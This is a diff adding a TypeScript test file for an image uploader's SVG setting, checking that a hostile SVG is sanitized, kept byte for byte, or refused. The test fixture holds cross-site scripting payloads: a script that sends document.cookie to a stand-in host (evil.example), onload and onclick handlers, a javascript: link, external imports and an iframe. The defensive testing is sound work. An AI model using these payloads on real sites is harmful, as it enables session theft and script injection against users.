@@ -1,0 +1,71 @@
+// SVG served from the bucket's domain would run its scripts there. The "svg" setting: sanitize (default, with
+// DOMPurify on jsdom), keep, refuse. Through the real PicGo and the local OSS server; rendered with sharp (librsvg).
+import { writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import sharp from 'sharp'
+import { startOssServer, type OssServer } from '../../tools/oss-server'
+import { createPicGo, keyOfUrl, localSettings, TEST_AK } from '../helpers/picgo'
+
+const HOSTILE = `<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE svg [<!ENTITY x "expanded">]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30" viewBox="0 0 40 30" onload="alert(1)">
+  <script>fetch('//evil.example/?c=' + document.cookie)</script>
+  <defs><linearGradient id="g"><stop offset="0" stop-color="#ff0000"/><stop offset="1" stop-color="#ff0000"/></linearGradient></defs>
+  <style>@import url(http://evil.example/x.css);</style>
+  <rect width="40" height="30" fill="url(#g)" onclick="steal()" style="fill:url(http://evil.example/t.png)"/>
+  <a href="javascript:alert(2)"><text x="2" y="20" font-size="4">hi&#160;there</text></a>
+  <image href="http://evil.example/track.png" width="1" height="1"/>
+  <foreignObject width="1" height="1"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.example/"/></body></foreignObject>
+</svg>
+`
+
+let server: OssServer
+beforeAll(async () => {
+  server = await startOssServer({ credentials: [TEST_AK] })
+})
+afterAll(() => server.close())
+
+async function upload(settings: Record<string, unknown>): Promise<{ stored?: { body: Buffer; contentType: string }; error?: string; logs: string[] }> {
+  const session = createPicGo(localSettings(server, settings))
+  try {
+    const file = join(session.dir, 'drawing.svg')
+    writeFileSync(file, HOSTILE)
+    const output = await session.picgo.upload([file]).catch((error: Error) => error)
+    if (output instanceof Error) return { error: output.message, logs: session.logs }
+    return { stored: server.getObject('test-bucket', keyOfUrl(output[0]!.imgUrl as string)), logs: session.logs }
+  } finally {
+    await session.cleanup()
+  }
+}
+
+test('by default scripts, event handlers, javascript: URLs and external references are removed; the drawing stays', async () => {
+  const { stored, logs } = await upload({})
+  const text = stored!.body.toString()
+  expect(stored!.contentType).toBe('image/svg+xml')
+  for (const hostile of ['<script', 'onload', 'onclick', 'javascript:', 'evil.example', 'foreignObject', '@import', 'ENTITY']) {
+    expect(text).not.toContain(hostile)
+  }
+  expect(text).toMatch(/<linearGradient id="g">/)
+  expect(text).toMatch(/viewBox="0 0 40 30"/)
+  const { data, info } = await sharp(stored!.body).removeAlpha().raw().toBuffer({ resolveWithObject: true })
+  expect(info).toMatchObject({ width: 40, height: 30 })
+  expect([...data.subarray(0, 3)]).toEqual([255, 0, 0])
+  expect(logs.join('\n')).toMatch(/drawing\.svg: SVG sanitised: removed (?=.*script)(?=.*onload)(?=.*href)/)
+})
+
+test('svg: "keep" uploads it byte for byte', async () => {
+  const { stored } = await upload({ svg: 'keep' })
+  expect(stored!.body.toString()).toBe(HOSTILE)
+})
+
+test('svg: "refuse" refuses it by name and setting, and stores nothing', async () => {
+  const before = server.listKeys('test-bucket').length
+  const { error } = await upload({ svg: 'refuse' })
+  expect(error).toMatch(/drawing\.svg: SVG files are refused \("svg" is "refuse"\)/)
+  expect(server.listKeys('test-bucket')).toHaveLength(before)
+})
+
+test('an unknown "svg" value is refused with the choices', async () => {
+  const { error } = await upload({ svg: 'strip' })
+  expect(error).toMatch(/Expected one of "sanitize", "keep", "refuse" for "svg" but received "strip"/)
+})
